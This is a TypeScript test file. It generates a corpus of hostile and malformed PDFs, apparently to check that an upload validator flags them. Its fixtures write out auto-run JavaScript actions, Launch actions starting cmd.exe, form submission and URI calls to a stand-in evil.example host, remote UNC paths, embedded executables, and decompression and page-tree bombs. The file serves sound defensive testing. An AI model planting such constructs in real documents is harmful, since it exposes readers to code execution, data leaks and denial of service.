import { deflateSync } from "node:zlib";
import { assemble, buildPdf, objectStream, type PdfGiven, pdfStream } from "./build-pdf.ts";
import type { Row } from "./corpus.ts";

const JS = "/S /JavaScript /JS (app.alert\\(1\\))";
const annotation = (keys: string): PdfGiven => ({
  page: "/Annots [5 0 R]",
  objects: [`<< /Type /Annot /Rect [0 0 9 9] ${keys} >>`],
});
const link = (action: string) => annotation(`/Subtype /Link /A << ${action} >>`);
const encrypted = (keys: string) => buildPdf({ objects: [`<< ${keys} >>`], trailer: "/Encrypt 5 0 R /ID [<00><00>]" });
const locks = `/O (${"o".repeat(32)}) /U (${"u".repeat(32)}) /P -1340`;

/** PDFs that act, carry, reach out, hide, weigh too much or do not hang together. */
export function pdfCases(): Row[] {
  const given: [string, Row[2], PdfGiven][] = [
    ["a script when opened", "script", { catalog: `/OpenAction << ${JS} >>` }],
    ["a script when opened, by reference", "script", { catalog: "/OpenAction 5 0 R", objects: [`<< ${JS} >>`] }],
    ["a script among the names", "script", { catalog: `/Names << /JavaScript << /Names [(a) << ${JS} >>] >> >>` }],
    ["a script when a page is shown", "script", { page: `/AA << /O << ${JS} >> >>` }],
    ["a script when closed", "script", { catalog: `/AA << /WC << ${JS} >> >>` }],
    ["a script under a link", "script", link(JS)],
    ["a script in a field", "script", annotation(`/Subtype /Widget /FT /Tx /T (a) /AA << /K << ${JS} >> >>`)],
    [
      "a script with an escaped name",
      "script",
      { catalog: "/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>" },
    ],
    [
      "a script in a stream",
      "script",
      { catalog: "/OpenAction << /S /JavaScript /JS 5 0 R >>", objects: [pdfStream("app.alert(1)")] },
    ],
    ["a script after a jump", "script", { catalog: `/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << ${JS} >> >>` }],
    [
      "a script in a packed object",
      "script",
      { catalog: "/OpenAction 9 0 R", objects: [objectStream([[9, `<< ${JS} >>`]])] },
    ],
    ["a program started", "script", { catalog: "/OpenAction << /S /Launch /F (cmd.exe) >>" }],
    ["a program started from a link", "script", link("/S /Launch /Win << /F (cmd.exe) /P (/c calc) >>")],
    ["a form that is sent off", "script", link("/S /SubmitForm /F (https://evil.example/)")],
    ["data that are fetched", "script", link("/S /ImportData /F (a.fdf)")],
    ["a rendition", "script", link("/S /Rendition /OP 0")],
    ["a command for rich media", "script", link("/S /RichMediaExecute")],
    ["an XFA form", "script", { catalog: "/AcroForm << /Fields [] /XFA 5 0 R >>", objects: [pdfStream("<xdp/>")] }],
    ["an address of a script", "script", link("/S /URI /URI (javascript:alert\\(1\\))")],
    ["an address of a script in hex", "script", link("/S /URI /URI <6a6176617363726970743a31>")],
    ["an address of a file", "script", link("/S /URI /URI (file:///C:/Windows/system32/calc.exe)")],
    ["an address of data", "script", link("/S /URI /URI (data:text/html,x)")],
    [
      "an address called when opened",
      "script",
      { catalog: "/OpenAction << /S /URI /URI (https://evil.example/seen) >>" },
    ],
    [
      "an address called when a page is shown",
      "script",
      { page: "/AA << /O << /S /URI /URI (https://evil.example/) >> >>" },
    ],
    ["embedded files among the names", "embedded-files", { catalog: "/Names << /EmbeddedFiles << /Names [] >> >>" }],
    [
      "a file pinned to a page",
      "embedded-files",
      annotation("/Subtype /FileAttachment /FS << /F (a.exe) /EF << /F 6 0 R >> >>"),
    ],
    [
      "a file in a specification",
      "embedded-files",
      { page: "/X << /Type /Filespec /F (a) /EF << /F 5 0 R >> >>", objects: [pdfStream("MZ", "/Type /EmbeddedFile")] },
    ],
    ["associated files", "embedded-files", { catalog: "/AF [5 0 R]", objects: ["<< /Type /Filespec /F (a.xml) >>"] }],
    ["a portfolio", "embedded-files", { catalog: "/Collection << /View /D >>" }],
    ["rich media", "embedded-files", annotation("/Subtype /RichMedia")],
    ["a film", "embedded-files", annotation("/Subtype /Movie")],
    ["a sound", "embedded-files", annotation("/Subtype /Sound")],
    ["a screen", "embedded-files", annotation("/Subtype /Screen")],
    ["a model in 3D", "embedded-files", annotation("/Subtype /3D")],
    [
      "a jump into another file",
      "external-links",
      link("/S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\a.pdf) /D [0 /Fit]"),
    ],
    ["a jump into an embedded file", "external-links", link("/S /GoToE /T << /R /C /N (a.pdf) >>")],
    [
      "a stream that lies elsewhere",
      "external-links",
      { page: "/X 5 0 R", objects: ["<< /F (\\\\\\\\evil.example\\\\a) /Length 0 >>\nstream\n\nendstream"] },
    ],
    ["no page", "broken", { pages: "<< /Type /Pages /Kids [] /Count 0 >>" }],
    ["a page shown twice", "broken", { pages: "<< /Type /Pages /Kids [3 0 R 3 0 R] /Count 2 >>" }],
    ["pages that hold themselves", "broken", { pages: "<< /Type /Pages /Kids [2 0 R] /Count 1 >>" }],
    [
      "pages doubled thirty times",
      "broken",
      { pages: "<< /Type /Pages /Kids [5 0 R 5 0 R] /Count 1073741824 >>", objects: doubled(30) },
    ],
    ["a page that does not exist", "broken", { pages: "<< /Type /Pages /Kids [99 0 R] /Count 1 >>" }],
    ["a broken object in use", "broken", { page: "/X 5 0 R", objects: ["<< /A ((( >>"] }],
    ["arrays 100,000 deep", "broken", { page: "/X 5 0 R", objects: ["[".repeat(100_000)] }],
    ["dictionaries 50,000 deep", "broken", { page: "/X 5 0 R", objects: ["<</A".repeat(50_000)] }],
  ];
  const rows = given.map(([title, verdict, what]): Row => [
    `a PDF with ${title}`,
    "don.pdf",
    verdict,
    () => buildPdf(what),
  ]);
  return [...rows, ...lockedCases(), ...heavyCases(), ...cutCases()];
}

function lockedCases(): Row[] {
  return [
    ["a PDF locked with RC4, 40 bits", "don.pdf", "locked", encrypted(`/Filter /Standard /V 1 /R 2 ${locks}`)],
    [
      "a PDF locked with RC4, 128 bits",
      "don.pdf",
      "locked",
      encrypted(`/Filter /Standard /V 2 /R 3 /Length 128 ${locks}`),
    ],
    [
      "a PDF locked with AES, 256 bits",
      "don.pdf",
      "locked",
      encrypted(
        `/Filter /Standard /V 5 /R 6 /Length 256 ${locks} /CF << /StdCF << /CFM /AESV3 >> >> /StmF /StdCF /StrF /StdCF`,
      ),
    ],
    [
      "a PDF locked for certificates",
      "don.pdf",
      "locked",
      encrypted("/Filter /Adobe.PubSec /SubFilter /adbe.pkcs7.s5 /V 4"),
    ],
  ];
}

function heavyCases(): Row[] {
  const pages = (count: number) => () => {
    const kids = Array.from({ length: count }, (_, at) => `${at + 3} 0 R`).join(" ");
    const page = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>";
    return assemble(
      [
        "<< /Type /Catalog /Pages 2 0 R >>",
        `<< /Type /Pages /Kids [${kids}] /Count ${count} >>`,
        ...Array.from({ length: count }, () => page),
      ],
      {},
    );
  };
  const zeros = (bytes: number) => pdfStream(Buffer.alloc(bytes));
  const inPage = (object: Buffer | string): PdfGiven => ({ page: "/X 5 0 R", objects: [object] });
  return [
    ["a PDF of 10,000 pages", "don.pdf", "too-many-pages", pages(10_000)],
    ["a PDF of 1,001 pages", "don.pdf", "too-many-pages", pages(1_001)],
    ["a PDF of 1,000 pages", "don.pdf", "ready", pages(1_000)],
    [
      "a PDF of 250,000 objects",
      "don.pdf",
      "bomb",
      () => assemble(["<< /Type /Catalog /Pages 2 0 R >>", ...Array.from({ length: 250_000 }, () => "1")], {}),
    ],
    ["a PDF with a stream that unpacks to 300 MB", "don.pdf", "bomb", () => buildPdf(inPage(zeros(300 * 1024 * 1024)))],
    [
      "a PDF with ten streams of 60 MB",
      "don.pdf",
      "bomb",
      () => buildPdf({ page: "/X [5 0 R]", objects: Array<Buffer>(10).fill(zeros(60 * 1024 * 1024)) }),
    ],
    [
      "a PDF with packed objects of 300 MB",
      "don.pdf",
      "bomb",
      () => buildPdf(inPage(pdfStream(Buffer.alloc(300 * 1024 * 1024, 0x20), "/Type /ObjStm /N 1 /First 4"))),
    ],
    [
      "a PDF with a table of 300 MB",
      "don.pdf",
      "bomb",
      () => buildPdf(inPage(pdfStream(Buffer.alloc(300 * 1024 * 1024), "/Type /XRef /W [1 2 1] /Size 9"))),
    ],
    ["a PDF with a stream packed twice", "don.pdf", "bomb", () => buildPdf(inPage(twice(300 * 1024 * 1024)))],
    [
      "a PDF with a bomb of undeclared packing",
      "don.pdf",
      "bomb",
      () => buildPdf(inPage(undeclared(300 * 1024 * 1024))),
    ],
  ];
}

function cutCases(): Row[] {
  const whole = buildPdf({ objects: [pdfStream("x".repeat(5_000))] });
  return [
    ["the head of a PDF", "don.pdf", "broken", "%PDF-1.7\n"],
    [
      "a PDF of noise",
      "don.pdf",
      "broken",
      Buffer.concat([Buffer.from("%PDF-1.7\n"), Buffer.alloc(5_000, 0x99), Buffer.from("%%EOF")]),
    ],
    ["half a PDF", "don.pdf", "broken", whole.subarray(0, whole.length / 2)],
    [
      "a PDF without a catalog",
      "don.pdf",
      "broken",
      "%PDF-1.7\n1 0 obj\n<< /A 1 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF",
    ],
    [
      "a PDF whose catalog is a number",
      "don.pdf",
      "broken",
      "%PDF-1.7\n1 0 obj\n5\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF",
    ],
    ["a PDF of one unending word", "don.pdf", "broken", `%PDF-1.7\n1 0 obj\n(${"(".repeat(200_000)}\nendobj\n%%EOF`],
  ];
}

/** Page trees from object 5 on, each of which holds the next one twice. */
function doubled(levels: number): string[] {
  return Array.from({ length: levels }, (_, at) => `<< /Type /Pages /Kids [${at + 6} 0 R ${at + 6} 0 R] /Count 2 >>`);
}

function twice(bytes: number): Buffer {
  const packed = deflateSync(deflateSync(Buffer.alloc(bytes), { level: 9 }), { level: 9 });
  return pdfStream(packed, "", "[/FlateDecode /FlateDecode]");
}

function undeclared(bytes: number): Buffer {
  return pdfStream(deflateSync(Buffer.alloc(bytes), { level: 9 }), "", "/Fl#61teDecode");
}
